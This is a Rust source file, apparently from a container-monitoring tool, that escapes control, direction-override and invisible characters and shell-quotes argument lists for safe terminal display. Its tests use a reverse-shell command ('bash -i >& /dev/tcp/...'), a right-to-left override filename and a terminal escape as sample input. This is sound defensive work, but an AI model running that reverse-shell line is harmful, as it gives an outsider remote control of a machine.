//! Untrusted text on a terminal. Arguments, names and paths come from whoever runs in the
//! container: escape sequences in them could hide or forge an alert.

use std::fmt::Write as _;

/// Longest text shown of one argument list or name; the JSON row has all of it.
const SHOWN: usize = 400;

/// `text` with control characters, direction overrides and invisible characters spelled out, cut
/// to what fits a few lines.
pub fn shown(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(SHOWN));
    for (i, c) in text.chars().enumerate() {
        if i == SHOWN {
            let _ = write!(out, "… (+{} characters)", text.chars().count() - SHOWN);
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if c.is_control() || is_invisible(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out
}

/// Unicode that changes the order of text or has no width (UAX #9 controls, zero-width and tag
/// characters, line separators).
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        | '\u{061c}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Arguments as one line that a shell would take back.
pub fn command_line(args: &[String]) -> String {
    let mut line = String::with_capacity(args.iter().map(|arg| arg.len() + 3).sum());
    for (place, arg) in args.iter().enumerate() {
        if place > 0 {
            line.push(' ');
        }
        quote(arg, &mut line);
    }
    line
}

fn quote(arg: &str, line: &mut String) {
    let plain =
        |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '+' | '=' | '.' | '/' | ':' | ',' | '@' | '%' | '^');
    if !arg.is_empty() && arg.chars().all(plain) {
        return line.push_str(arg);
    }
    line.push('\'');
    for (place, part) in arg.split('\'').enumerate() {
        if place > 0 {
            line.push_str("'\\''");
        }
        line.push_str(part);
    }
    line.push('\'');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_sequences_are_spelled_out() {
        assert_eq!(shown("a\x1b[2Jb\n\u{7f}\u{9b}"), "a\\u{1b}[2Jb\\n\\u{7f}\\u{9b}");
        assert_eq!(shown("x\u{202e}gpj.sh"), "x\\u{202e}gpj.sh");
        assert_eq!(shown("größe 字"), "größe 字");
    }

    #[test]
    fn long_text_is_cut() {
        let text = "é".repeat(SHOWN + 7);
        assert!(shown(&text).ends_with("… (+7 characters)"));
        assert_eq!(shown(&"a".repeat(SHOWN)).len(), SHOWN);
    }

    #[test]
    fn arguments_as_a_line() {
        let args = ["bash", "-c", "bash -i >& /dev/tcp/a/1 0>&1", "", "it's"].map(String::from);
        assert_eq!(command_line(&args), "bash -c 'bash -i >& /dev/tcp/a/1 0>&1' '' 'it'\\''s'");
    }
}
